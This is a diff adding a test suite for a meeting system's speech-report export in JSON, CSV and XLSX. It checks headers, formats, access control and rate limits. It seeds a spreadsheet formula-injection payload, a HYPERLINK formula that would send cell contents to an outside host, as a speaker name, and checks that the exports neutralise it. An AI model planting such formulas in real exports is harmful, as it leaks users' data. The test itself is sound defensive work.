@@ -1,0 +1,105 @@
+// The report of speeches over HTTP: who gets it, in which files, and what stands in them.
+import { strFromU8, unzipSync } from 'fflate';
+import Papa from 'papaparse';
+import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
+
+import type { Live } from './live.ts';
+import { openLive } from './live.ts';
+
+const FORMATS = ['json', 'csv', 'xlsx'] as const;
+const FORMULA = '=HYPERLINK("http://example.org/?"&A1)';
+
+let live: Live;
+let token: string;
+beforeAll(async () => {
+  live = await openLive();
+});
+afterAll(() => live.close());
+
+const pathOf = (format: string, meeting = live.meeting) => `/api/meetings/${meeting}/report.${format}`;
+
+/** CH has spoken and calls its speaker a formula; AT has withdrawn; DE waits. */
+beforeEach(async () => {
+  await live.fresh();
+  token = (await live.link('chair')).token;
+  const chair = live.seat({ token });
+  await chair.next('welcome');
+  await chair.give({ type: 'OpenSitting', sittingId: 'am' });
+  await chair.give({ type: 'OpenItem', itemId: '5(b)' });
+  await chair.give({ type: 'OpenList', itemId: '5(b)' });
+  for (const delegationId of ['CH', 'AT', 'DE']) await chair.give({ type: 'RequestFloor', itemId: '5(b)', delegationId, speaker: { name: FORMULA } });
+  const [ch, at] = chair.meeting!.lists['5(b)']!.waiting;
+  await chair.give({ type: 'GiveFloor', entryId: ch!.id, after: null });
+  await chair.give({ type: 'EndSpeech', entryId: ch!.id });
+  await chair.give({ type: 'WithdrawRequest', entryId: at!.id });
+});
+
+describe('the report of speeches', () => {
+  test('is a file to keep, under a name of plain characters, that no cache keeps', async () => {
+    for (const format of FORMATS) {
+      const response = await live.get(pathOf(format), token);
+      expect([response.status, response.headers.get('content-disposition')]).toEqual([200, `attachment; filename=speeches-${live.meeting}.${format}`]);
+      expect(response.headers.get('cache-control')).toBe('no-store');
+      expect(response.headers.get('x-content-type-options')).toBe('nosniff');
+    }
+    const types = await Promise.all(FORMATS.map(async (format) => (await live.get(pathOf(format), token)).headers.get('content-type')));
+    expect(types).toEqual(['application/json; charset=utf-8', 'text/csv; charset=utf-8', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet']);
+  });
+
+  test('as JSON has instants and durations in ms, the time of day in the hall, and what each delegation spoke', async () => {
+    const report = await (await live.get(pathOf('json'), token)).json();
+    expect(report).toMatchObject({ meetingId: live.meeting, title: 'Small meeting', timeZone: 'Europe/Zurich', totals: [{ delegationId: 'CH', speeches: 1 }] });
+    expect(report.speeches).toMatchObject([{ delegation: 'State CH', itemNumber: '5(b)', outcome: 'spoken', speaker: FORMULA, limitMs: 180_000 }, { delegation: 'State AT', outcome: 'withdrawn', usedMs: null }]);
+    const [{ at, utc, local }] = report.speeches;
+    expect(utc).toBe(new Date(at).toISOString());
+    expect(local).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/);
+    expect(report.totals[0].usedMs).toBe(report.speeches[0].usedMs);
+  });
+
+  test('as CSV begins with the mark of UTF-8, ends its lines as RFC 4180 says, and has no formula', async () => {
+    const bytes = Buffer.from(await (await live.get(pathOf('csv'), token)).arrayBuffer());
+    expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
+    const text = bytes.toString().slice(1);
+    expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
+    const { data } = Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true });
+    expect(data).toMatchObject([{ Item: '5(b)', Delegation: 'State CH', Speaker: `'${FORMULA}`, Status: 'spoke', 'Limit, seconds': '180' }, { Delegation: 'State AT', Status: 'withdrawn', 'Spoke for, seconds': '' }]);
+  });
+
+  test('as a workbook has the speeches and the totals, texts as texts and no formula', async () => {
+    const files = unzipSync(new Uint8Array(await (await live.get(pathOf('xlsx'), token)).arrayBuffer()));
+    const texts = Object.fromEntries(Object.entries(files).map(([name, bytes]) => [name, strFromU8(bytes)]));
+    for (const text of Object.values(texts)) expect(text).not.toMatch(/<f[ >/]/);
+    expect(texts['xl/sharedStrings.xml']).toContain('<t>=HYPERLINK("http://example.org/?"&amp;A1)</t>');
+    expect(texts['xl/workbook.xml']).toMatch(/name="Speeches".*name="Totals"/);
+    expect(texts['xl/worksheets/sheet1.xml']!.match(/<row /g)).toHaveLength(3);
+  });
+
+  test('of a meeting in which nobody has spoken has no rows', async () => {
+    await live.fresh();
+    const { token: officer } = await live.link('secretary');
+    expect(await (await live.get(pathOf('json'), officer)).json()).toMatchObject({ totals: [], speeches: [] });
+    expect((await (await live.get(pathOf('csv'), officer)).text()).split('\r\n')).toHaveLength(2);
+    expect((await live.get(pathOf('xlsx'), officer)).status).toBe(200);
+  });
+
+  test('is refused as a meeting is: no token, a wrong one, another meeting’s, no such meeting', async () => {
+    const before = { token, meeting: live.meeting };
+    await live.fresh();
+    const operator = await live.server.operator.createLink({ role: 'operator' });
+    const operators = operator.ok ? operator.value.token! : '';
+    for (const format of FORMATS) {
+      for (const [shown, meeting] of [[undefined, before.meeting], ['wrong', before.meeting], [before.token, live.meeting], [before.token, 'nowhere'], [operators, 'nowhere'], [before.token, '%20']] as const) {
+        const [answer, asked] = [await live.get(pathOf(format, meeting), shown), await live.get(`/api/meetings/${meeting}`, shown === operators ? before.token : shown)];
+        expect([answer.status, await answer.json()]).toEqual([asked.status, await asked.json()]);
+      }
+    }
+    expect((await live.get(pathOf('pdf', before.meeting), before.token)).status).toBe(404);
+  });
+
+  test('may be asked for half a dozen times at once, then one has to wait', async () => {
+    const answers: number[] = [];
+    for (let nth = 0; nth < 8; nth += 1) answers.push((await live.get(pathOf('json'), token)).status);
+    expect(answers.slice(0, 6)).toEqual([200, 200, 200, 200, 200, 200]);
+    expect(answers).toContain(429);
+  });
+});
